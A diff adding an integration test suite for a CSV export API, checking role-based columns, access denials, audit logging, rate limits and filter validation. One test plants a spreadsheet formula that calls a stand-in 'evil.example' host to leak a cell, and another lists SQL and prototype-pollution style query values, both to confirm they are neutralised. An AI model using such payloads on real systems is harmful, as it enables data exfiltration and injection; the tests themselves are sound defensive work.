@@ -1,0 +1,290 @@
+import { request, type IncomingMessage } from 'node:http'
+import { afterAll, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest'
+import { step } from '../../db/test/world-deals.ts'
+import type { Person } from '../../db/test/world.ts'
+import { another } from '../../db/transactions/transactions.testing.ts'
+import { codeOf, openDeals, type Deals } from '../transactions/test/deals.ts'
+import { lists } from './query.ts'
+
+let deals: Deals
+
+beforeAll(async () => {
+  deals = await openDeals({ LOG_LEVEL: 'debug' })
+  const { cast, kept, owner } = deals
+  await kept(async () => {
+    await step(cast.operator.admin, cast.transaction, 'issueInvoice')
+    await another(owner, cast, '777.77')
+  })
+})
+beforeEach(() => deals.forgetLimits())
+afterAll(() => deals.close())
+
+type Row = Record<string, string>
+
+async function take(list: string, person: Person, query = ''): Promise<Row[]> {
+  const response = await deals.get(`/api/exports/${list}.csv${query}`, person.token)
+  const text = await response.text()
+  expect(response.status, text).toBe(200)
+  return rowsIn(text)
+}
+
+/** As a spreadsheet reads it. */
+function rowsIn(text: string): Row[] {
+  const lines = [...text.replace(/^\uFEFF/, '').matchAll(/("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|$)/g)]
+  const rows: string[][] = [[]]
+  for (const [, cell = '', end] of lines) {
+    rows.at(-1)?.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell)
+    if (end === '\r\n') rows.push([])
+  }
+  const [titles = [], ...more] = rows.slice(0, -1)
+  return more.map((row) => Object.fromEntries(titles.map((title, index) => [title, row[index] ?? ''])))
+}
+
+const titlesOf = async (list: string, person: Person) => Object.keys((await take(list, person))[0] ?? {})
+
+async function audited(): Promise<
+  { actor: number; list: string; outcome: string; rows?: number; filters: string[] }[]
+> {
+  const { rows } = await deals.owner.query<{ entry: never }>(
+    `select details || jsonb_build_object('actor', actor_user_id, 'list', subject) as entry
+      from app.audit_logs where action = 'EXPORT' order by id`,
+  )
+  return rows.map(({ entry }) => entry)
+}
+
+test('a list comes as a file that no cache keeps, with a name', async () => {
+  const response = await deals.get('/api/exports/leads.csv', deals.cast.vendor.master.token)
+  expect(Object.fromEntries(response.headers)).toMatchObject({
+    'content-type': 'text/csv; charset=utf-8',
+    'content-disposition': expect.stringMatching(
+      /^attachment; filename="leads-\d{4}-\d\d-\d\d\.csv"$/,
+    ) as string,
+    'cache-control': 'no-store',
+    'x-content-type-options': 'nosniff',
+  })
+  const bytes = new Uint8Array(await response.arrayBuffer())
+  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
+})
+
+test('every list opens to the operator’s master admin, with all that is in it', async () => {
+  const tables: Record<string, string> = {
+    ledger: 'ledger_lines',
+    people: 'user_infos',
+    terms: 'commission_terms',
+    audit: 'audit_logs',
+  }
+  for (const list of Object.keys(lists)) {
+    const { rows } = await deals.owner.query<{ count: number }>(
+      `select count(*)::int as count from app.${tables[list] ?? list}`,
+    )
+    const found = (await take(list, deals.cast.operator.master)).length
+    const more = list === 'audit' ? 1 : 0
+    expect(found, list).toBe((rows[0]?.count ?? 0) + more)
+  }
+  expect(Object.keys(lists).length).toBe(10)
+})
+
+describe('"exactly the columns of the visibility table"', () => {
+  const fee = ['Rate', 'Fee', 'Invoice status', 'Invoice', 'Payment reference']
+  const payout = ['Share', 'Payout', 'No payout because', 'Payout reference']
+  const always = [
+    'Transaction',
+    'Lead',
+    'Type',
+    'Status',
+    'Closed',
+    'Service',
+    'Provider',
+    'Referrer',
+    'Agent',
+    'Original deal',
+    'Actual deal',
+  ]
+
+  test('of transactions', async () => {
+    const { vendor, operator, referrer, referrersAdmin, agent } = deals.cast
+    expect(await titlesOf('transactions', operator.admin)).toEqual([...always, ...fee, ...payout, 'Earnings'])
+    expect(await titlesOf('transactions', vendor.master)).toEqual([...always, ...fee])
+    expect(await titlesOf('transactions', referrer)).toEqual([...always, ...payout])
+    expect(await titlesOf('transactions', agent)).toEqual(always)
+    // An organization that is a referrer here and may be a provider elsewhere has both, and sees its own side only.
+    const [row] = await take('transactions', referrersAdmin)
+    expect(row).toMatchObject({
+      Fee: '',
+      Rate: '',
+      Invoice: '',
+      Payout: expect.stringMatching(/^\d/) as string,
+    })
+  })
+
+  test('the figures are those of the deal', async () => {
+    const { vendor, operator, referrer, transaction } = deals.cast
+    const mine = async (person: Person) =>
+      (await take('transactions', person)).find((row) => row['Transaction'] === String(transaction))
+    expect(await mine(operator.admin)).toMatchObject({
+      'Actual deal': '12345.67',
+      Fee: '1234.57',
+      Payout: '493.83',
+      Earnings: '740.74',
+      'Invoice status': 'NEW_INVOICE',
+    })
+    expect(await mine(vendor.master)).toMatchObject({ Fee: '1234.57', Rate: '10.000' })
+    expect(await mine(referrer)).toMatchObject({ Payout: '493.83', Share: '40.000' })
+  })
+
+  test('invoices, terms, applications and the log are closed to who has no part in them', async () => {
+    const { vendor, operator, referrer, agent } = deals.cast
+    for (const [list, people] of [
+      ['invoices', [referrer, agent]],
+      ['ledger', [agent]],
+      ['terms', [vendor.master, referrer, agent]],
+      ['applications', [vendor.master, referrer, agent]],
+      ['audit', [operator.admin, vendor.master, referrer]],
+    ] as const) {
+      for (const person of people)
+        expect(await codeOf(await deals.get(`/api/exports/${list}.csv`, person.token)), list).toBe(
+          '403 FORBIDDEN',
+        )
+    }
+  })
+})
+
+test('another organization’s token takes out nothing of it, and no token nothing at all', async () => {
+  const { third, others } = deals.cast
+  for (const list of ['leads', 'transactions', 'invoices', 'ledger'])
+    expect(await take(list, third), list).toEqual([])
+  expect(await take('leads', others.associate)).toEqual([])
+  expect(await codeOf(await deals.get('/api/exports/leads.csv'))).toBe('401 UNAUTHENTICATED')
+})
+
+test('a customer’s name, e-mail and phone come as far as one sees them', async () => {
+  const { vendor, agent, referrer } = deals.cast
+  for (const person of [vendor.master, agent, referrer])
+    for (const row of await take('leads', person))
+      expect(row).toMatchObject({
+        'Last name': 'Example',
+        'E-mail': expect.stringContaining('@customers.example') as string,
+      })
+})
+
+test('a formula in a customer’s name stays text', async () => {
+  const name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+  await deals.owner.query('update app.leads set lead_first_name = $2 where id = $1', [deals.cast.lead, name])
+  const response = await deals.get('/api/exports/leads.csv', deals.cast.vendor.master.token)
+  const text = await response.text()
+  expect(rowsIn(text).map((row) => row['First name'])).toContain(`'${name}`)
+  expect(text).not.toMatch(/(^|,|")=/m)
+  expect(rowsIn(text).find((row) => row['Phone'])?.['Phone']).toMatch(/^'\+1/)
+})
+
+test('filters leave what they name, by the operator’s days', async () => {
+  const { operator, transaction } = deals.cast
+  const ids = async (query: string) =>
+    (await take('transactions', operator.admin, query)).map((row) => row['Transaction'])
+  expect(await ids('?status=INVOICE_SENT')).toEqual([String(transaction)])
+  expect(await ids('?invoiceStatus=NEW_INVOICE,OVERDUE')).toEqual([String(transaction)])
+  expect(await ids('?status=INVOICE_SENT,READY_FOR_INVOICE')).toHaveLength(2)
+  await deals.owner.query(`update app.transactions set closed_at = '2026-03-09 04:30Z' where id = $1`, [
+    transaction,
+  ])
+  expect(await ids('?from=2026-03-08&before=2026-03-09')).toEqual([String(transaction)])
+  expect(await ids('?from=2026-03-09&before=2026-03-10')).toEqual([])
+  expect(await ids('?organizationId=1')).toEqual([])
+})
+
+test.for([
+  'stauts=PAID',
+  'status=PAID;drop',
+  'from=2026-02-30',
+  'from=yesterday',
+  'organizationId=1 or 1=1',
+  'organizationId=1&organizationId=2',
+  '__proto__=x',
+  'constructor=x',
+])('?%s is refused', async (query) => {
+  const token = deals.cast.operator.master.token
+  expect(await codeOf(await deals.get(`/api/exports/transactions.csv?${query}`, token))).toBe(
+    '400 INVALID_INPUT',
+  )
+})
+
+test.for(['secrets', 'constructor', 'leads.csv', 'x'.repeat(300)])('there is no list %s', async (list) => {
+  const { status } = await deals.get(`/api/exports/${list}.csv`, deals.cast.operator.master.token)
+  expect([404, 400, 414]).toContain(status)
+})
+
+test('who took what, by which filters and with how many rows, is in the audit log, and no value of a filter', async () => {
+  const before = (await audited()).length
+  const { operator, vendor } = deals.cast
+  await take('leads', operator.admin, `?organizationId=${vendor.organization.id}&from=2026-01-01`)
+  await deals.get('/api/exports/invoices.csv', deals.cast.referrer.token)
+  const of = { actor: operator.admin.id, list: 'leads', filters: ['from', 'organizationId'] }
+  await vi.waitFor(async () =>
+    expect((await audited()).slice(before)).toEqual([
+      { ...of, outcome: 'begun' },
+      { ...of, outcome: 'whole', rows: 2 },
+    ]),
+  )
+  expect(deals.product.said()).not.toContain('2026-01-01')
+})
+
+/** So that a file is far larger than what is on its way at a time. */
+async function withManyServices(count: number): Promise<void> {
+  await deals.owner.query(
+    `begin; set local session_replication_role = replica;
+      insert into app.services (organization_id, name, category_id, customer_type, is_active)
+        select ${deals.cast.vendor.organization.id}, 'Many ' || n || repeat(' words', 30),
+            (select min(id) from app.categories), 'both', true from generate_series(1, ${count}) n;
+      commit`,
+  )
+}
+
+/** Begins to take a list and stops reading after the first bytes. */
+async function begin(list: string, { token }: Person) {
+  const call = request(`${deals.address}/api/exports/${list}.csv`, {
+    headers: { authorization: `Bearer ${token}` },
+  })
+  const response = new Promise<IncomingMessage>((resolve, reject) => {
+    call.on('response', resolve)
+    call.on('error', reject)
+  })
+  call.end()
+  const answer = await response
+  answer.pause()
+  return { status: answer.statusCode, leave: () => call.destroy() }
+}
+
+const reading = async () =>
+  (
+    await deals.owner
+      .query(`select from pg_stat_activity where application_name = 'turnstone web' and datname = current_database()
+    and state <> 'idle' and xact_start is not null`)
+  ).rowCount
+
+test('one at a time for each person; who leaves ends the statement, and what had left is in the log', async () => {
+  await withManyServices(60_000)
+  const { vendor, operator } = deals.cast
+  const before = (await audited()).length
+  const first = await begin('services', vendor.master)
+  expect(first.status).toBe(200)
+  expect(await codeOf(await deals.get('/api/exports/leads.csv', vendor.master.token))).toBe(
+    '429 RATE_LIMITED',
+  )
+  expect((await take('leads', operator.admin)).length).toBeGreaterThan(0)
+  await vi.waitFor(async () => expect(await reading()).toBe(1))
+  first.leave()
+  await vi.waitFor(async () => expect(await reading()).toBe(0), { timeout: 10_000, interval: 50 })
+  await vi.waitFor(async () => {
+    const entry = (await audited()).slice(before).find(({ outcome }) => outcome === 'cut off')
+    expect(entry).toMatchObject({ actor: vendor.master.id, list: 'services' })
+    expect(entry?.rows).toBeLessThan(60_000)
+  })
+  expect((await take('leads', vendor.master)).length).toBeGreaterThan(0)
+}, 60_000)
+
+test('whoever takes more than 60 in an hour waits', async () => {
+  const { token } = deals.cast.vendor.admin
+  await take('leads', deals.cast.vendor.admin)
+  await deals.owner.query(`update hidden.rate_limits set used = 60 where bucket = 'export'`)
+  expect(await codeOf(await deals.get('/api/exports/leads.csv', token))).toBe('429 RATE_LIMITED')
+})
